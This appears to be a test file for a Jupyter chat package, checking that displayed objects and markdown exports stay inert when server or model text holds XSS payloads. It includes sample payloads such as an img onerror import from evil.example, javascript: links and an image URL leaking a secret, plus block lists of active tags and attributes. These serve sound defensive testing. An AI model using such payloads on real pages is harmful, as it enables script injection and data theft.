@@ -1,0 +1,283 @@
+"""Every displayed MIME type of every object stays inert when server or model strings are hostile (issue 11).
+
+Each payload of ``tests/fixtures/xss_payloads.json`` (the same file the front end's vitest reads) goes into every
+server-controlled field of every object the package displays. The bundle is built the way Jupyter builds it
+(IPython's display formatter), then rendered the way JupyterLab renders trusted output: ``text/html`` as is and
+``text/markdown`` through a CommonMark renderer with raw HTML allowed and every link accepted. The result must
+hold no active element, no event handler, no script or data URL and nothing that fetches a remote resource.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator, Mapping
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+from IPython.core.formatters import DisplayFormatter
+from markdown_it import MarkdownIt
+
+from hermes_notebook.client.jobs import Job
+from hermes_notebook.jobs.display import JobList
+from hermes_notebook.notebook.results import Reply, Status, Table, Transcript
+from hermes_notebook.render import _CSS, transcript_bundle, transcript_markdown
+
+PAYLOADS: list[str] = json.loads((Path(__file__).parent / "fixtures" / "xss_payloads.json").read_text())["payloads"]
+
+# Tags that run script, load something, or submit anything: none may come out of a display path.
+ACTIVE_TAGS = {
+    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "textarea",
+    "select", "meta", "link", "base", "img", "image", "svg", "math", "video", "audio", "source", "picture",
+    "track", "portal", "template", "marquee", "isindex", "keygen",
+}
+# Attributes that load a resource or carry script, whatever their value.
+LOADING_ATTRS = {"src", "srcset", "srcdoc", "background", "poster", "data", "action", "formaction", "xlink:href",
+                 "ping", "lowsrc", "dynsrc", "codebase", "archive"}
+SAFE_HREF = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)
+
+
+class _Inspector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.problems: list[str] = []
+        self._in_style = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in ACTIVE_TAGS:
+            self.problems.append(f"<{tag}>")
+        self._in_style = tag == "style"
+        for name, value in attrs:
+            value = value or ""
+            if name.startswith("on"):
+                self.problems.append(f"{tag}[{name}]")
+            elif name in LOADING_ATTRS:
+                self.problems.append(f"{tag}[{name}={value[:40]}]")
+            elif name == "href" and not SAFE_HREF.match(re.sub(r"[\x00-\x20\x7f-\x9f]", "", value)):
+                self.problems.append(f"{tag}[href={value[:40]}]")
+            elif name == "style" and re.search(r"url\(|expression|@import", value, re.IGNORECASE):
+                self.problems.append(f"{tag}[style={value[:40]}]")
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_style = False
+
+    def handle_data(self, data: str) -> None:
+        if self._in_style and data not in KNOWN_CSS:
+            self.problems.append(f"<style>{data[:40]}")
+
+
+def _known_css() -> set[str]:
+    from hermes_notebook.jobs.display import _CSS as JOBS_CSS
+
+    return {_CSS, JOBS_CSS}
+
+
+KNOWN_CSS = _known_css()
+
+
+def _jupyter_markdown() -> MarkdownIt:
+    """CommonMark + tables with raw HTML on and no link validation: what a permissive renderer does."""
+    md = MarkdownIt("gfm-like", {"html": True, "linkify": False})
+    md.validateLink = lambda url: True  # type: ignore[method-assign]
+    return md
+
+
+JUPYTER_MD = _jupyter_markdown()
+
+
+def problems_in_bundle(bundle: Mapping[str, Any]) -> list[str]:
+    """Render each displayable MIME type as JupyterLab would and list what would be live."""
+    found: list[str] = []
+    for mime, value in bundle.items():
+        if mime == "text/html":
+            html_text = str(value)
+            if "tex2jax_ignore" not in html_text.split(">", 1)[0] and not html_text.startswith("<div class=\"hn-inert"):
+                found.append("text/html outside the inert (MathJax-ignored) container")
+        elif mime == "text/markdown":
+            html_text = JUPYTER_MD.render(str(value))
+            if any(re.search(r"\$|\\\(|\\\[", text) for text in _prose(str(value))):
+                found.append("text/markdown with a math delimiter")
+        elif mime == "text/plain":
+            continue
+        else:
+            found.append(f"unexpected MIME type {mime}")
+            continue
+        inspector = _Inspector()
+        inspector.feed(html_text)
+        inspector.close()
+        found.extend(f"{mime}: {p}" for p in inspector.problems)
+    return found
+
+
+def _prose(markdown: str) -> Iterator[str]:
+    """The source text of markdown outside code (where JupyterLab looks for ``$...$`` and ``\\(...\\)``)."""
+    stack = list(JUPYTER_MD.parse(markdown))
+    while stack:
+        token = stack.pop()
+        if token.type == "inline":
+            # The inline token keeps its source (character references not yet decoded); drop the code spans.
+            yield re.sub(r"(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)", "", token.content)
+        elif token.type == "html_block":
+            yield token.content
+
+
+_FORMATTER = DisplayFormatter()
+
+
+def displayed(obj: object) -> dict[str, Any]:
+    """The MIME bundle IPython would send for ``obj`` as a cell's value."""
+    data, _metadata = _FORMATTER.format(obj)
+    return data
+
+
+def hostile_message(payload: str) -> dict[str, Any]:
+    """An assistant message with the payload in every server- or model-controlled field."""
+    return {
+        "id": "m1", "role": "assistant", "status": payload, "error": payload,
+        "usage": {"input": 1, "output": 2},
+        "parts": [
+            {"kind": "reasoning", "id": "r", "text": payload},
+            {"kind": "text", "id": "t", "text": payload},
+            {"kind": "text", "id": "t2", "text": f"before {payload} after\n\n> {payload}\n\n- {payload}"},
+            {"kind": "tool", "id": "tool", "name": payload, "status": payload, "preview": payload,
+             "result": payload, "duration": 0.5,
+             "interaction": {"kind": "approval", "request_id": payload, "command": payload,
+                             "description": payload, "status": "answered", "response": payload}},
+            {"kind": "tool", "id": "tool2", "name": "x", "status": "done", "arguments": {"k": payload},
+             "result": {"out": payload}},
+        ],
+    }
+
+
+def hostile_objects(payload: str) -> Iterator[tuple[str, object]]:
+    message = hostile_message(payload)
+    yield "Reply", Reply(message, notes=[payload])
+    yield "Transcript", Transcript([{"id": "u", "role": "user", "parts": [{"kind": "text", "id": "p", "text": payload}]},
+                                    message])
+    yield "sessions table", Table(
+        [{"id": payload, "title": payload, "preview": payload, "source": payload},
+         {"id": "s2", "title": payload, "preview": payload, "source": payload}],
+        columns=("id", "title", "preview", "source"), current=payload,
+    )
+    yield "jobs table", Table([{"id": payload, "name": payload, "schedule": payload, "state": payload,
+                                 "next_run_at": payload, "last_status": payload}],
+                               columns=("id", "name", "schedule", "state", "next_run_at", "last_status"), empty=payload)
+    yield "empty table", Table([], columns=("id",), empty=payload)
+    yield "Status", Status(
+        api={"url": payload, "ok": False, "error": payload, "version": payload},
+        dashboard={"url": payload, "ok": True, "version": payload, "connected": True, "features": [payload]},
+        via=payload, session=payload,
+    )
+    job = Job.from_json({"id": payload, "name": payload, "prompt": payload, "schedule_display": payload,
+                         "state": payload, "last_status": "error", "last_error": payload, "deliver": payload,
+                         "skills": [payload], "schedule": {"kind": "cron", "expr": payload, "display": payload}})
+    yield "Job", job
+    yield "JobList", JobList([job, job])
+
+
+def test_corpus_is_large_and_shared() -> None:
+    """At least 60 payloads, in the one file the front-end tests read too."""
+    assert len(PAYLOADS) >= 60
+    assert len(set(PAYLOADS)) == len(PAYLOADS)
+    js_test = (Path(__file__).parents[1] / "js" / "tests" / "sanitize.test.ts").read_text()
+    assert "xss_payloads.json" in js_test
+
+
+def test_checker_flags_live_content() -> None:
+    """The checker is not vacuous: the old markdown table (only ``|`` escaped) is flagged, so is raw HTML."""
+    payload = '<img src=x onerror="import(\'https://evil.example\')">'
+    old_table = "| title |\n|---|\n| " + payload.replace("|", "\\|") + " |"
+    assert problems_in_bundle({"text/markdown": old_table}) == [
+        "text/markdown: <img>", "text/markdown: img[src=x]", "text/markdown: img[onerror]"]
+    assert "text/markdown: a[href=javascript:alert(1)]" in problems_in_bundle(
+        {"text/markdown": "[x](javascript:alert(1))"})
+    assert problems_in_bundle({"text/html": "<b>x</b>"}) == ["text/html outside the inert (MathJax-ignored) container"]
+    assert problems_in_bundle({"text/markdown": "$\\href{javascript:x}{y}$"}) == ["text/markdown with a math delimiter"]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_every_display_path_is_inert(payload: str) -> None:
+    """Each object that shows server text renders with nothing live, whatever the payload."""
+    for name, obj in hostile_objects(payload):
+        bundle = displayed(obj)
+        assert "text/html" in bundle and "text/plain" in bundle, name
+        assert "text/markdown" not in bundle, f"{name}: JupyterLab renders raw HTML in trusted markdown"
+        assert problems_in_bundle(bundle) == [], name
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_markdown_export_is_inert(payload: str) -> None:
+    """The markdown transcript (an export) stays inert even where raw HTML and any link are rendered."""
+    message = hostile_message(payload)
+    markdown = transcript_markdown([message])
+    assert problems_in_bundle({"text/markdown": markdown}) == []
+    assert problems_in_bundle(transcript_bundle([message])) == []
+
+
+def test_escaped_text_still_reads() -> None:
+    """Escaping keeps the words: a hostile title is shown as text, not dropped."""
+    table = Table([{"id": "s1", "title": "<b>bold</b> $x$"}], columns=("id", "title"))
+    assert "&lt;b&gt;bold&lt;/b&gt; $x$" in displayed(table)["text/html"]
+    assert "<b>bold</b> $x$" in displayed(table)["text/plain"]
+
+
+def test_images_in_model_output_become_links_naming_the_host() -> None:
+    """An image in model output is never loaded by the transcript: it is a link that names its host."""
+    html_text = displayed(Reply({"id": "m", "role": "assistant", "status": "complete", "parts": [
+        {"kind": "text", "id": "t", "text": "![chart](https://evil.example/leak?d=SECRET) ![x](data:image/png;base64,AA)"},
+    ]}))["text/html"]
+    assert "<img" not in html_text
+    assert 'href="https://evil.example/leak?d=SECRET"' in html_text
+    assert "[image: chart from evil.example]" in html_text
+    assert "[image: x, not shown]" not in html_text  # data: images are not valid links: left as literal text
+    assert "data:image/png" in html_text and 'href="data:' not in html_text
+
+
+def test_markdown_export_escapes_names_and_fences_longer_than_any_backtick_run() -> None:
+    """Tool names and errors are escaped; a result holding a fence cannot close ours."""
+    message = {"id": "m", "role": "assistant", "status": "error", "error": "*boom* <b>", "parts": [
+        {"kind": "tool", "id": "t", "name": "a`b", "status": "done", "result": "x\n````\n<script>y</script>\n````"}]}
+    markdown = transcript_markdown([message])
+    assert "`````\nx\n````" in markdown
+    assert "&#42;boom&#42; &#60;b&#62;" in markdown
+    rendered = JUPYTER_MD.render(markdown)
+    assert "<script>" not in rendered and "&lt;script&gt;" in rendered
+
+
+def test_url_userinfo_is_never_shown() -> None:
+    """A password in a URL stays out of status output, reprs and error messages."""
+    from hermes_notebook.client._http import HttpTransport
+    from hermes_notebook.errors import HermesConnectionError
+    from hermes_notebook.settings import Settings
+
+    url = "https://alice:pa55word@hermes.example:8642"
+    status = Status(api={"url": url, "ok": True}, dashboard={"url": url, "ok": False, "error": f"no route to {url}"},
+                    via="dashboard", session=None)
+    bundle = displayed(status)
+    settings = Settings(api_url=url, dashboard_url=url, proxy="http://bob:hunter2@proxy.example:3128")
+    transport = HttpTransport(url, None)
+    texts = [*bundle.values(), repr(settings), repr(transport), str(HermesConnectionError(f"cannot reach {url}/x"))]
+    import asyncio
+
+    asyncio.run(transport.aclose())
+    for text in texts:
+        assert "pa55word" not in text and "hunter2" not in text and "alice" not in text, text
+    assert "https://***@hermes.example:8642" in bundle["text/plain"]
+    with pytest.raises(ValueError, match=r"got 'ftp://\*\*\*@x'") as info:
+        Settings(api_url="ftp://carol:secret@x")
+    assert "secret" not in str(info.value)
+
+
+def test_kernel_and_front_end_read_one_link_policy() -> None:
+    """render.py and markdown.ts/reveal.ts use the same policy file; only http, https and mailto links pass."""
+    from hermes_notebook.inert import LINK_SCHEMES, is_safe_url
+
+    src = Path(__file__).parents[1] / "js" / "src" / "chat"
+    for name in ("markdown.ts", "reveal.ts"):
+        assert 'from "../../../hermes_notebook/link_policy.json"' in (src / name).read_text()
+    assert LINK_SCHEMES == ("http", "https", "mailto")
+    assert all(map(is_safe_url, ["https://a.example", "HTTP://a", "mailto:me@x", " https://x"]))
+    assert not any(map(is_safe_url, ["javascript:alert(1)", "java\tscript:x", "data:text/html,x", "/api/kernels",
+                                     "#frag", "vbscript:x", "file:///etc/passwd", "ftp://x"]))
